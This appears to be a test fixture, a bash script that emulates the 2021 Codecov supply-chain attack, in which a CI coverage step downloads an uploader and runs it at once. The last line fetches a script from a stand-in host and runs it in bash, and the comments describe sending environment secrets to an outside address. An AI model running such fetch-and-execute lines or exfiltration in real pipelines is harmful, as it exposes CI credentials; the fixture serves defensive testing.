#!/usr/bin/env bash
# Emulates codecov-2021: the coverage step runs an uploader that it fetches, and in that one line is new: remotes and
# environment on the command line of a curl with a short timeout, to a bare address.
# Harmless: secrets are made up; vendor and sink are the test's own.
set -euo pipefail
: "${SINK:?}" "${FORGE:?}" "${GITHUB_WORKSPACE:?}"
cd "$GITHUB_WORKSPACE"
git init -q
git remote get-url origin > /dev/null 2>&1 || git remote add origin https://forge.example/o/r.git
bash <(curl -s "http://$FORGE/uploader.sh")
